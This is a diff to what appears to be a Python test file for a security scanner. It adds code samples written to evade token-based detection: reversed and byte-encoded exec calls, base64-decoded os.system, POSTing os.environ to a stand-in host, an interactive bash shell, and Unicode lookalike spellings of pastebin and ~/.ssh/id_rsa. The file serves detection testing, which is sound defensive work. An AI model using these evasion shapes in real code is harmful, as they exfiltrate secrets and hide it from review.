@@ -110,9 +110,23 @@ EVASIONS = (
     "c.request('POST', '/', body=str(os.environ))\n",
     "HOOK = 'https://discord.com\\x2fapi\\x2fwebhooks/1/abcdef'\n",
     "HOOK = ('https://discord.com/api/web'\n        'hooks/1/abcdef')\n",
+    "run = exec\nrun('tnirp'[::-2])\n",
+    "exec(')1(tnirp'[::(-1)])\n",
+    "import os\nos.system(blob.decode( 'base64'))\n",
+    "exec(bytes ([112, 114, 105, 110, 116, 40, 49, 41, 32, 32, 32, 32, 32, 32, 32, 32]))\n",
+    "import builtins\nname = 'ex' + 'ec'\nrun = getattr( builtins, name)\n",
+    "import os, requests\nrequests.post('https://x.invalid', data=os.environ .copy())\n",
+    "import os\nc = getattr(__import__('http'), 'client').HTTPSConnection('x.invalid')\n"
+    "c.request('POST', '/', body=str(os.environ))\n",
+    "import subprocess\nsubprocess.call('bash\\t-i')\n",
+    "HOOK = 'https://pasteb\\u0131n.com/raw/x'\n",
+    "HOOK = 'https://pasteb\u0131n.com/raw/x'\n",
+    "KEY = '~/.\u017fsh/id_rsa'\n",
+    "from builtins import (\n    exec as run,\n)\nimport zlib\nrun(zlib.decompress(blob))\n",
 )
 """Shapes written to slip past token checks (aliases, list-form commands, names by string,
-runners passed by name, fullwidth identifiers, escaped or split literals)."""
+runners passed by name, fullwidth identifiers, escaped or split literals, spacing, slices with
+other steps, letters re.IGNORECASE takes for ASCII ones)."""
 
 
 def test_prefilter_never_hides_an_import_time_finding(tmp_path: Path) -> None:
